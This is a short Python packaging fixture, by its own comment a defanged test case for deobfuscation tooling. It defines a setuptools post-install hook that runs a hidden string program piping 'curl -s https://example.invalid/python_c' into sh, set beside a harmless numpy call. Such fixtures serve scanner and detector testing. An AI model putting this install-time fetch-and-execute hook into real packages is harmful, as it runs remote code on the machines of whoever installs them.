# Defanged deobfuscation fixture (hand-written); hosts are under example.invalid.
# A post-install step that hands a program to a new interpreter: the program is only a string to the parser.
import subprocess
import sys
from setuptools.command.install import install

SCRIPT = """
import os
os.system('curl -s https://example.invalid/python_c | sh')
"""


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.check_call([sys.executable, "-c", SCRIPT])
        subprocess.check_call([sys.executable, "-c", "import numpy; print(numpy.get_include())"])
